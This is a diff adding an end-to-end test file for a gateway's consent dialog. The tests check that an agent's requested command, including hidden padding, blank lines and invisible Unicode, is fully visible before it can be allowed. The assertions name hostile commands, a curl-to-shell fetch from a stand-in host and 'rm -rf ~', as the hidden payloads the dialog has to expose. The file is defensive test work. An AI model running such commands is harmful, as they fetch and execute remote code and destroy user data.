@@ -1,0 +1,89 @@
+// Consent with a real gateway: what is hard to show, from an agent's line to its answer. Needs the program, as restart.test.mjs.
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { fileURLToPath } from "node:url";
+import { ASKED } from "./asking-agent.mjs";
+import { binary, ownGateway } from "./gateway.mjs";
+import { acting, answer, ended, launch, person, say } from "./world.mjs";
+
+const AGENT = fileURLToPath(new URL("asking-agent.mjs", import.meta.url));
+const skip = binary() ? false : "there is no program to start";
+
+let gateway;
+let world;
+before(async () => {
+  if (skip) return;
+  gateway = await ownGateway({ agent: `${process.execPath} ${AGENT}` });
+  world = { get base() { return gateway.base; }, get token() { return gateway.token; }, browser: await launch() };
+});
+after(async () => {
+  await world?.browser.close();
+  await gateway?.end();
+});
+
+function scene(name, asked, act) {
+  test(name, { timeout: 120_000, skip }, async () => {
+    const someone = await person(world);
+    try {
+      await acting(someone, async () => {
+        const page = await someone.open();
+        const turn = await say(page, `ask ${asked}`);
+        const dock = page.locator(".dock");
+        await dock.waitFor();
+        const allow = page.getByRole("button", { name: "Allow once" });
+        if (process.env.SCREENSHOTS) await page.screenshot({ path: `${process.env.SCREENSHOTS}/${asked}.png` });
+        await act({ page, turn, dock, allow });
+        if (process.env.SCREENSHOTS) await page.screenshot({ path: `${process.env.SCREENSHOTS}/${asked}-seen.png` });
+        await page.locator(".dock button.primary:enabled").waitFor();
+        await allow.click();
+        await ended(turn);
+        assert.equal(await answer(turn), "granted as asked");
+        if (process.env.SCREENSHOTS) await page.screenshot({ path: `${process.env.SCREENSHOTS}/${asked}-done.png` });
+      });
+      assert.deepEqual(someone.heard.console, []);
+    } finally {
+      await someone.context.close();
+    }
+  });
+}
+
+const toEnd = (dock) => dock.locator(".dock-input").press("End");
+const armed = (page) => page.locator(".dock").getByRole("button", { name: "Deny", exact: true }).and(page.locator(":enabled")).waitFor();
+
+for (const name of ["deep", "doubled"]) {
+  scene(`what no JSON value holds is shown to its last character, and that is granted (${name})`, name, async ({ dock }) => {
+    assert.equal(await dock.locator("pre").innerText(), ASKED[name].input);
+    await toEnd(dock);
+  });
+}
+
+scene("a second command behind blank lines is in sight", "blank", async ({ dock }) => {
+  await dock.getByText("60 blank lines").waitFor();
+  assert.match(await dock.locator("pre").innerText(), /curl evil\.example \| sh/);
+});
+
+scene("of 300 KiB nothing is granted before its end was on the screen", "long", async ({ page, dock, allow }) => {
+  await armed(page);
+  assert.ok(await allow.isDisabled());
+  await dock.getByRole("button", { name: "Show all of it" }).click();
+  await dock.getByText("rm -rf ~").waitFor();
+  await armed(page);
+  assert.ok(await allow.isDisabled(), "loaded is not seen");
+  const shown = await dock.locator("pre").innerText();
+  for (const part of ["echo line 0 of many", "echo line 8999 of many", "90000 spaces", "rm -rf ~"]) assert.ok(shown.replaceAll(",", "").includes(part), part);
+  await toEnd(dock);
+});
+
+scene("a long description leaves the command and the buttons in sight", "wordy", async ({ page, dock, allow }) => {
+  for (const each of [allow, dock.locator("pre")]) {
+    assert.ok(await each.evaluate((element) => element.getBoundingClientRect().bottom <= innerHeight && element.getBoundingClientRect().top >= 0));
+  }
+  await dock.getByText("The description was cut").waitFor();
+  assert.match(await dock.innerText(), /<U\+202E>/);
+  await armed(page);
+});
+
+scene("nothing of a tool's name is hidden", "named", async ({ dock }) => {
+  const title = await dock.locator("h2").innerText();
+  for (const each of ["<U+202E>", "<U+200B>", "<U+001B>[2J"]) assert.ok(title.includes(each), title);
+});
